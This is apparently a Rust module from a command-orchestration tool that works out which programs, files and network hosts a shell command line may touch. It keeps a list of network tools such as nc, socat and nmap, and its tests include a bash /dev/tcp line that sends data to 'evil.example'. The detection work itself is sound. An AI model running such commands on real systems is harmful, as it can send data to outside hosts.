//! What command lines say: the programs they would run, the files they are known to write, and whom they may speak to.

use orchestrator_charter::{Fact, Facts};
use orchestrator_commands::{Analysis, Command, Limits, Word};
use serde_json::Value;
use url::Url;

use super::{host, plain};

/// Programs that speak to hosts which their words name in ways of their own, or which a file names.
const SPEAKING: &[&str] = &[
    "aria2c",
    "arping",
    "autossh",
    "aws",
    "axel",
    "az",
    "borg",
    "curl",
    "curlftpfs",
    "cvs",
    "delv",
    "dig",
    "docker",
    "drill",
    "finger",
    "fping",
    "ftp",
    "gcloud",
    "getent",
    "gh",
    "git",
    "glab",
    "gnutls-cli",
    "grpcurl",
    "gsutil",
    "helm",
    "hg",
    "host",
    "hping",
    "http",
    "https",
    "httpie",
    "hub",
    "iperf",
    "kcat",
    "kdig",
    "kubectl",
    "ldapsearch",
    "lftp",
    "logger",
    "masscan",
    "mosh",
    "mosquitto_pub",
    "mosquitto_sub",
    "mount",
    "mtr",
    "mysql",
    "nats",
    "nc",
    "nc.openbsd",
    "nc.traditional",
    "ncat",
    "nerdctl",
    "netcat",
    "nmap",
    "nslookup",
    "nsupdate",
    "ntpdate",
    "oc",
    "openssl",
    "openvpn",
    "ping",
    "podman",
    "psql",
    "rclone",
    "redis-cli",
    "resolvectl",
    "restic",
    "rlogin",
    "rpcinfo",
    "rsh",
    "rsync",
    "scp",
    "sftp",
    "showmount",
    "slogin",
    "smbclient",
    "snmpget",
    "snmpwalk",
    "sntp",
    "socat",
    "ssh",
    "ssh-copy-id",
    "ssh-keyscan",
    "sshfs",
    "svn",
    "tailscale",
    "telnet",
    "tftp",
    "tracepath",
    "traceroute",
    "websocat",
    "wg-quick",
    "wget",
    "whois",
    "wscat",
    "xh",
];
/// What an option of `curl` may be so that it speaks to the hosts of its addresses and to no other: alone, and with a value.
const PLAIN: &[&str] = &["-s", "-S", "-f", "-sS", "-fs", "-fsS", "-sSf", "-v", "-i", "-I", "-O", "--fail", "--silent"];
const WITH_VALUE: &[&str] =
    &["-o", "-X", "-H", "-d", "-m", "--output", "--request", "--header", "--data", "--max-time"];

/// Every program that words would run, those behind shells and wrappers included; the files that it is known to write; and that
/// anything may be meant where that cannot be told.
pub(super) fn of_words(words: &[&str], facts: &mut Facts) {
    tell((words, &[]), &orchestrator_commands::argv(words, &Limits::default()), facts);
}

/// What was found in words, and in the names of variables that are set for them.
fn tell((words, variables): (&[&str], &[&str]), found: &Analysis, facts: &mut Facts) {
    // What a program does with files that its arguments name is its own affair.
    facts.unknown.insert(Fact::Paths);
    facts.programs.extend(found.programs().map(str::to_owned));
    if !found.deletes.is_empty() {
        // `find -delete` is no less than this.
        facts.programs.insert("rm".to_owned());
    }
    if variables.iter().any(|name| orchestrator_commands::is_influential(name)) || !found.is_complete() {
        facts.unknown.insert(Fact::Programs);
    }
    for word in found.commands.iter().flat_map(|command| &command.argv).filter_map(Word::literal) {
        host(word, facts);
    }
    let is_sent_elsewhere = words.iter().chain(variables).any(|text| text.to_lowercase().contains("proxy"));
    if is_sent_elsewhere || !found.is_complete() || found.commands.iter().any(may_speak) {
        facts.unknown.insert(Fact::Hosts);
    }
    sockets(found, facts);
    let files = found.writes.iter().chain(&found.deletes).filter_map(Word::literal);
    facts.paths.extend(files.map(|file| plain(file).display().to_string()));
}

/// What the texts in `argv` would run.
pub(super) fn analysis(arguments: &Value) -> Analysis {
    orchestrator_commands::argv(argv(arguments).iter().filter_map(Value::as_str), &Limits::default())
}

fn argv(arguments: &Value) -> &[Value] {
    arguments.get("argv").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default()
}

/// Arguments `argv`, in which this was found, and `env`.
pub(super) fn of_arguments(arguments: &Value, found: &Analysis, facts: &mut Facts) {
    let argv = argv(arguments);
    let words: Option<Vec<&str>> = argv.iter().map(Value::as_str).collect();
    let variables = arguments.get("env").and_then(Value::as_object).into_iter().flatten();
    let variables: Vec<&str> = variables.map(|(name, _)| name.as_str()).collect();
    match words.filter(|words| !words.is_empty()) {
        Some(words) => tell((&words, &variables), found, facts),
        None => facts.unknown.extend([Fact::Programs, Fact::Paths, Fact::Hosts]),
    }
}

/// Whether it may speak to a host that is not among those of its addresses.
fn may_speak(command: &Command) -> bool {
    let name = command.program.trim_end_matches(|letter: char| letter.is_ascii_digit());
    let speaks = SPEAKING.contains(&command.program.as_str()) || SPEAKING.contains(&name);
    command.runs_files || (speaks && !(name == "curl" && names_its_hosts(&command.argv)))
}

/// Whether each word of `curl` is an option that is known or an address that nobody reads differently.
fn names_its_hosts(argv: &[Word]) -> bool {
    let mut words = argv.iter().skip(1).map(Word::literal);
    while let Some(word) = words.next() {
        match word {
            Some(option) if PLAIN.contains(&option) => {}
            Some(option) if WITH_VALUE.contains(&option) => {
                if words.next().flatten().is_none() {
                    return false;
                }
            }
            Some(address) if is_plain_address(address) => {}
            _ => return false,
        }
    }
    true
}

fn is_plain_address(text: &str) -> bool {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || ".:/_-?=&%~+,".contains(letter);
    let is_web = text.starts_with("http://") || text.starts_with("https://");
    is_web && text.chars().all(is_plain) && Url::parse(text).is_ok_and(|url| url.host_str().is_some())
}

/// Bash speaks to a host where a redirection names `/dev/tcp/HOST/PORT`.
fn sockets(found: &Analysis, facts: &mut Facts) {
    for file in found.reads.iter().chain(&found.writes) {
        for place in ["/dev/tcp/", "/dev/udp/"] {
            let is_known = file.literal().is_some();
            match file.beginning().strip_prefix(place) {
                Some(rest) if is_known => {
                    facts.hosts.insert(rest.split('/').next().unwrap_or_default().to_lowercase());
                }
                Some(_) => drop(facts.unknown.insert(Fact::Hosts)),
                None if !is_known && place.starts_with(file.beginning()) => drop(facts.unknown.insert(Fact::Hosts)),
                None => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(script: &str, hosts: &[&str], is_certain: bool) {
        let mut facts = Facts::default();
        of_words(&["bash", "-c", script], &mut facts);
        assert_eq!(facts.hosts.iter().collect::<Vec<_>>(), hosts, "{script}");
        assert_eq!(!facts.unknown.contains(&Fact::Hosts), is_certain, "{script}");
    }

    #[test]
    fn whom_a_command_speaks_to_is_known_where_nothing_else_can_be_meant() {
        check("ls; cat x > y", &[], true);
        check("curl -fsS https://api.example/x -o y", &["api.example"], true);
        check("curl -H 'a: b' -d x=y https://a.example https://b.example", &["a.example", "b.example"], true);
        check("echo x > /dev/tcp/evil.example/80", &["evil.example"], true);
    }

    #[test]
    fn programs_that_speak_in_their_own_way_may_speak_to_anybody() {
        for script in [
            "curl api.example/x",
            "curl -L http://a.example",
            "curl -x p http://a.example",
            "curl http://a@b.example",
            "curl 'http://{a,b}.example'",
            "curl \"$url\"",
            "http_proxy=x curl http://a.example",
            "wget http://a.example",
            "ssh a.example true",
            "scp f a.example:g",
            "git clone git@a.example:x/y",
            "rsync a b.example:c",
            "nc a 80",
            "ping -c 1 a.example",
            "ping6 a",
            "dig x.a.example",
            "nslookup x",
            "cargo fetch",
            "env ssh a true",
            "/usr/bin/dig x",
            "echo x > \"/dev/tcp/$h/80\"",
            "cat < \"$f\"",
            "$X",
        ] {
            let mut facts = Facts::default();
            of_words(&["bash", "-c", script], &mut facts);
            assert!(facts.unknown.contains(&Fact::Hosts), "{script}: {facts:?}");
        }
    }
}
